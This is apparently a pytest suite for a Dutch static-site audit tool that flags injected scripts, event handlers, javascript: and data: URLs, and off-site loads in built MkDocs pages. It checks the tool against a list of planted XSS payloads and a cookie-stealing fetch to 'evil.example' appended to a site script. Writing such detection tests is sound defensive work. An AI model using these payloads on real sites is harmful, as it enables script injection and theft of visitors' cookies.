"""`thuisbasis audit`: the real built site passes; planted payloads fail with a Dutch file:line message."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import material
import pytest

from thuisbasis.site.audit import (
    MATERIAL_INLINE_SHA256,
    MATERIAL_SCOPE_SCRIPT,
    audit_site,
    csp_script_hashes,
    is_material_inline_script,
    sha256_base64,
)

ROOT = Path(__file__).parent.parent
SCRIPTS = ROOT / "docs" / "javascripts"
MATERIAL_TEMPLATES = Path(material.__file__).parent / "templates"
SCOPE_READ = "document.currentScript.dataset.mdScope"  # where Material writes the base URL into its script


def build_site(out: Path, cwd: Path = ROOT, *extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(out), *extra],
                          capture_output=True, text=True, cwd=cwd, timeout=300,
                          env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})


@pytest.fixture(scope="module")
def built_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("audit") / "site"
    result = build_site(out)
    assert result.returncode == 0, result.stderr
    return out


@pytest.fixture
def site_copy(built_site: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "site"
    shutil.copytree(built_site, copy)
    return copy


def test_the_real_site_passes(built_site: Path) -> None:
    pages, findings = audit_site(built_site, SCRIPTS)
    assert pages > 100
    assert findings == []


def test_the_command_passes_on_the_real_site(built_site: Path) -> None:
    result = subprocess.run([sys.executable, "-m", "thuisbasis", "audit", str(built_site)],
                            capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    assert re.fullmatch(r"Thuisbasis-audit: \d+ pagina's gecontroleerd: geen problemen\.\n", result.stdout)


PLANTED = [
    ("<script>alert(1)</script>", "inline <script> die niet van het thema komt: \"alert(1)\""),
    ("<script src=\"https://evil.example/x.js\"></script>", "laadt iets van een andere host"),
    ("<script src=\"//evil.example/x.js\"></script>", "laadt iets van een andere host"),
    ("<script src=\"../javascripts/evil.js\"></script>", "komt niet van het thema en niet uit docs/javascripts/"),
    ("<script src=\"data:text/javascript,alert(1)\"></script>", "data:-adres in 'src' op <script>"),
    ("<svg><script>alert(1)</script></svg>", "inline <script> die niet van het thema komt"),
    ("<img src=\"x.png\" onerror=\"alert(1)\">", "attribuut 'onerror' op <img>"),
    ("<div ONCLICK=\"alert(1)\">x</div>", "attribuut 'onclick' op <div>"),
    ("<a href=\"javascript:alert(1)\">x</a>", "javascript:-adres in 'href' op <a>"),
    ("<a href=\"  JaVa&#x09;ScRiPt:alert(1)\">x</a>", "javascript:-adres in 'href' op <a>"),
    ("<a href=\"vbscript:msgbox(1)\">x</a>", "vbscript:-adres in 'href' op <a>"),
    ("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "data:-adres in 'href' op <a>"),
    ("<form action=\"javascript:alert(1)\"></form>", "javascript:-adres in 'action' op <form>"),
    ("<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>", "javascript:-adres in 'xlink:href' op <a>"),
    ("<iframe src=\"../index.html\"></iframe>", "element <iframe> is niet toegestaan"),
    ("<object data=\"x.swf\"></object>", "element <object> is niet toegestaan"),
    ("<embed src=\"x.swf\">", "element <embed> is niet toegestaan"),
    ("<base href=\"https://evil.example/\">", "element <base> is niet toegestaan"),
    ("<link rel=\"stylesheet\" href=\"https://fonts.googleapis.com/css?family=Roboto\">", "<link href=\"https://fonts.googleapis.com"),
    ("<link rel=\"preload icon\" href=\"https://evil.example/i.png\">", "laadt iets van een andere host"),
    ("<img src=\"https://tracker.example/p.gif\">", "<img src=\"https://tracker.example/p.gif\"> laadt iets van een andere host"),
    ("<img srcset=\"a.png 1x, https://tracker.example/p.gif 2x\">", "laadt iets van een andere host"),
    ("<video poster=\"https://evil.example/p.jpg\"></video>", "laadt iets van een andere host"),
    ("<audio src=\"https://evil.example/a.mp3\"></audio>", "laadt iets van een andere host"),
    ("<source src=\"//evil.example/v.mp4\">", "laadt iets van een andere host"),
    # Material's original scope script, with code smuggled in where the base URL goes.
    ("<script>" + MATERIAL_SCOPE_SCRIPT.replace(SCOPE_READ, '".",alert(1),"."') + "</script>",
     "inline <script> die niet van het thema komt"),
    # Our scope script, with a base URL that is not a path.
    (f"<script data-md-scope=\"javascript:alert(1)//\">{MATERIAL_SCOPE_SCRIPT}</script>",
     "data-md-scope=\"javascript:alert(1)//\" is geen gewoon pad"),
    ("<script id=\"__config\" type=\"application/json\">{not json</script>", "is geen geldige JSON"),
]


@pytest.mark.parametrize(("payload", "message"), PLANTED, ids=[payload[:40] for payload, _ in PLANTED])
def test_a_planted_payload_is_reported_at_its_line(tmp_path: Path, payload: str, message: str) -> None:
    site_copy = tmp_path / "site"  # a one-page site: fast, and the finding can only come from the payload
    shutil.copytree(SCRIPTS, site_copy / "javascripts")
    planted = site_copy / "geplant" / "index.html"
    planted.parent.mkdir()
    planted.write_text(f"<!doctype html>\n<html lang=\"nl\"><body>\n<p>tekst</p> {payload}\n</body></html>\n",
                       encoding="utf-8")
    _, findings = audit_site(site_copy, SCRIPTS)
    assert len(findings) == 1, findings
    assert findings[0].path == planted and findings[0].line == 3
    assert message in findings[0].message


def test_links_to_other_sites_and_local_images_are_fine(tmp_path: Path) -> None:
    site_copy = tmp_path / "site"
    site_copy.mkdir()
    page = site_copy / "geplant.html"
    page.write_text("<a href=\"https://www.rijksoverheid.nl/\">bron</a><a href=\"mailto:info@example.org\">m</a>"
                    "<img src=\"../assets/images/favicon.png\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">"
                    "<a href=\"#ongeveer-javascript:\">anker</a><link rel=\"canonical\" href=\"https://example.org/\">",
                    encoding="utf-8")
    assert audit_site(site_copy, SCRIPTS) == (1, [])


def test_a_payload_in_a_real_case_page_fails_the_command(site_copy: Path) -> None:
    page = next(iter(sorted((site_copy / "casussen").glob("*/index.html"))))
    html = page.read_text(encoding="utf-8")
    line = html[: html.index("<h1")].count("\n") + 1
    page.write_text(html.replace("<h1", "<img src=x onerror=alert(document.cookie)><h1", 1), encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "thuisbasis", "audit", str(site_copy)],
                            capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 1
    assert f"{page.as_posix()}:{line}:" in result.stdout
    assert "attribuut 'onerror' op <img> is niet toegestaan" in result.stdout
    assert result.stdout.rstrip().endswith("gecontroleerd: 1 probleem.")


def test_a_changed_own_script_is_reported(site_copy: Path) -> None:
    script = site_copy / "javascripts" / "zoeken.js"
    script.write_text(script.read_text(encoding="utf-8") + "\nfetch('https://evil.example/?'+document.cookie)\n",
                      encoding="utf-8")
    _, findings = audit_site(site_copy, SCRIPTS)
    assert findings and all("verschilt van docs/javascripts/zoeken.js" in found.message for found in findings)


def test_missing_site_is_a_usage_error(tmp_path: Path) -> None:
    result = subprocess.run([sys.executable, "-m", "thuisbasis", "audit", str(tmp_path / "nergens")],
                            capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert result.returncode == 2 and "geen map" in result.stderr


def material_inline_scripts() -> dict[str, str]:
    """Material's inline scripts, read from the installed templates."""
    scripts = {}
    for name in ("base.html", "palette.html", "content.html"):
        text = (MATERIAL_TEMPLATES / "partials" / "javascripts" / name).read_text(encoding="utf-8")
        for number, script in enumerate(re.findall(r"<script>(.*?)</script>", text, re.S)):
            scripts[f"{name}#{number}"] = script
    return scripts


def test_known_inline_scripts_match_the_installed_material() -> None:
    """A Material upgrade that changes an inline script fails here, not in visitors' browsers."""
    scripts = material_inline_scripts()
    assert scripts["base.html#0"] == MATERIAL_SCOPE_SCRIPT.replace(SCOPE_READ, '"{{ config.extra.scope | d(base_url) }}"')
    ours = (ROOT / "overrides" / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8")
    assert ours.endswith(f'<script data-md-scope="{{{{ config.extra.scope | d(base_url) }}}}">{MATERIAL_SCOPE_SCRIPT}</script>\n')
    assert scripts["palette.html#0"] and scripts["content.html#1"]
    assert set(MATERIAL_INLINE_SHA256) == {sha256_base64(scripts["palette.html#0"]), sha256_base64(scripts["content.html#1"])}
    # The tabs script (content.html#0) is only rendered with pymdownx.tabbed's content.tabs.link; we use neither.
    assert not is_material_inline_script(scripts["content.html#0"])


def test_every_inline_script_in_the_site_has_its_hash_in_the_csp(built_site: Path) -> None:
    allowed = set(csp_script_hashes())
    for page in built_site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        for attributes, script in re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S):
            if "src=" not in attributes and "application/json" not in attributes:
                assert sha256_base64(script) in allowed, page
        csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html)
        assert csp, f"{page}: geen Content-Security-Policy"
        listed = set(re.findall(r"'sha256-([A-Za-z0-9+/=]+)'", csp.group(1)))
        assert listed == allowed, page


def test_the_site_published_under_a_sub_path_passes_too(tmp_path: Path) -> None:
    """As pages.yml builds it: the 404 page then has a root path as its scope, and needs no other hash."""
    out = tmp_path / "site"
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(out)],
                            capture_output=True, text=True, cwd=ROOT, timeout=300,
                            env={**os.environ, "NO_MKDOCS_2_WARNING": "1",
                                 "THUISBASIS_SITE_URL": "https://example.org/thuisbasis/"})
    assert result.returncode == 0, result.stderr
    assert 'data-md-scope="/thuisbasis/"' in (out / "404.html").read_text(encoding="utf-8")
    assert audit_site(out, SCRIPTS, "https://example.org/thuisbasis/")[1] == []
    assert audit_site(out, SCRIPTS)[1] != []  # read as a site at the root, the 404 page's scripts are elsewhere
    test_every_inline_script_in_the_site_has_its_hash_in_the_csp(out)
